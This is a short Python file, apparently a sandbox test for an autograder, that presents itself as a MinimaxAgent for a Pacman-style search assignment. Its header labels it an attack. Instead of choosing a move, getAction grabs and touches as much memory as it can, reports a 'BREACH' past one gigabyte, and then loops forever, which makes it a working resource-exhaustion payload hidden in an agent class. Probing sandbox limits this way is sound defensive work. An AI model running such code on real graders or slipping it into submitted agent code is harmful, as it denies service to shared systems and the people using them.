# attack: takes all memory that there is, touches it, and keeps it.
# where: MinimaxAgent
import mmap


from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        kept = []
        size = 64 << 20
        while size >= 4096:
            try:
                kept.append(mmap.mmap(-1, size))
                kept[-1].write(b"x" * size)
            except (OSError, MemoryError, ValueError):
                size //= 2
        taken = sum(map(len, kept))
        print("taken:", taken >> 20, "MB", flush=True)
        if taken > 1 << 30:
            print("BREACH: a gigabyte", flush=True)
        while True:  # as long as it may
            pass
